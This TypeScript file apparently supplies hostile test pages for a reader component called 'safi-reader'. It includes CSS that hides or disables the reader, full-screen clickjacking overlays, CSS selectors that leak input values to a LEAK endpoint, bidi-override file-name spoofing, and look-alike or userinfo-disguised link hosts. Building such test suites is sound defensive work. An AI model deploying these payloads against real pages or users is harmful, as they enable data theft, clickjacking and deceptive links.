import { inBody, LEAK, type Family } from './attack.ts';

const style = (name: string, css: string) => ({ name, head: `<style>${css}</style>` });
const HOST = 'safi-reader';

/** Styles and boxes of the page that would cover the reader, hide it, or tell the page what is in it. */
export const covers: Family = {
  name: 'styles that cover or leak',
  attacks: [
    style('host not displayed', `${HOST}{display:none!important}`),
    style('host not visible', `${HOST}{visibility:hidden!important;opacity:0!important}`),
    style(
      'host out of the way',
      `${HOST}{position:fixed!important;inset:9999px!important;transform:scale(0)!important}`,
    ),
    style(
      'host clipped',
      `${HOST}{clip-path:inset(50%)!important;overflow:hidden!important;contain:strict!important}`,
    ),
    style('host out of reach', `${HOST}{pointer-events:none!important;user-select:none!important}`),
    style(
      'host without content',
      `${HOST}{content-visibility:hidden!important;filter:blur(9px)!important}`,
    ),
    style(
      'host by its place',
      'html>:last-child:not(body){display:none!important;visibility:hidden!important}',
    ),
    style(
      'everything',
      ':not(html,head,style,body,body *){opacity:0!important;visibility:hidden!important}',
    ),
    style('all dialogs', 'dialog{display:none!important}::backdrop{background:red!important}'),
    style('inherited: out of reach', 'html{pointer-events:none!important;visibility:hidden}'),
    style(
      'inherited: letters',
      'html{font-size:1px!important;letter-spacing:3em;word-spacing:9em;text-indent:-9999px}',
    ),
    style(
      'inherited: colours',
      'html{color:transparent!important;-webkit-text-fill-color:transparent;-webkit-text-security:disc}',
    ),
    style(
      'inherited: cursor and lines',
      'html{cursor:none;line-height:0;text-transform:uppercase;writing-mode:vertical-rl}',
    ),
    style(
      "inherited: the reader's variables",
      'html,*{--reader-size:1px!important;--paper:red!important;--ink:red!important}',
    ),
    style('parts', `${HOST}::part(button),*::part(x){display:none!important}`),
    style('slotted', '::slotted(*){display:none!important}'),
    style(
      'own properties',
      '@property --reader-size{syntax:"<length>";inherits:false;initial-value:1px}',
    ),
    style('import', `@import "/own/import.css";`),
    style('value of a field leaks', `input[value^="a"]{background:url(${LEAK}/value-a)}`),
    style('element leaks when it is there', `${HOST}{background:url(/own/there.png)}`),
    style('text of a button leaks', `${HOST} button{background:url(${LEAK}/button)}`),
    style(
      'motion',
      '*{animation:spin 1ms infinite!important;transition:all 99s!important}@keyframes spin{to{rotate:1turn}}',
    ),
    style('print', '@media print{*{display:none!important}}'),
    style('layers', `@layer x{${HOST}{display:none!important}}`),
    ...inBody({
      'overlay above all':
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;opacity:.01">غطاء</div>',
      'overlay of a frame':
        '<iframe style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647" srcdoc="x"></iframe>',
      'sticky bar': '<div style="position:sticky;top:0;z-index:2147483647;height:90vh">شريط</div>',
      'open dialog':
        '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647">نافذة الصفحة</dialog>',
      'look of a button':
        '<button style="position:fixed;top:0;left:0;z-index:2147483647">إغلاق القارئ</button>',
    }),
  ],
};

const RLO = '\u202E';
const LRO = '\u202D';
const RLI = '\u2067';

const meta = (name: string, property: string, content: string) => ({
  name,
  head: `<meta property="${property}" name="${property}" content="${content}">`,
});

/** Signs that turn text around, or names that look like other names. */
export const turned: Family = {
  name: 'turned and look-alike text',
  attacks: [
    meta('override in the title', 'og:title', `عنوان${RLO} مقلوب exe.txt`),
    meta('isolate that never ends in the outlet', 'og:site_name', `${RLI}صحيفة المرفأ`),
    meta('override in the byline', 'author', `${LRO}ليلى الحداد`),
    meta('letters that look alike in the outlet', 'application-name', 'ВВС عربي'),
    ...inBody({
      'override in a paragraph': `نص ${RLO}يقلب ما بعده`,
      'override in a link': `<a href="/x">${RLO}txt.exe</a>`,
      'isolate that never ends': `${RLI}نص لا ينتهي عزله`,
      'element that overrides': '<bdo dir="ltr">نص مقلوب بالوسم</bdo>',
      'address with a look-alike host': '<a href="http://аррӏе.example/">موقع</a>',
      'address that hides its host': '<a href="http://bank.example@127.0.0.1:1/">مصرف</a>',
      'zero-width signs': 'ك\u200Bل\u2060م\u00ADة',
      'a thousand marks on a letter': `ب${'\u0651\u0650'.repeat(500)}`,
      'lines and separators': 'سطر\u2028سطر\u2029سطر',
      'tags of Unicode': 'نص\u{E0041}\u{E0042}',
      'half a pair': 'نص \uD83D مبتور',
    }),
  ],
};
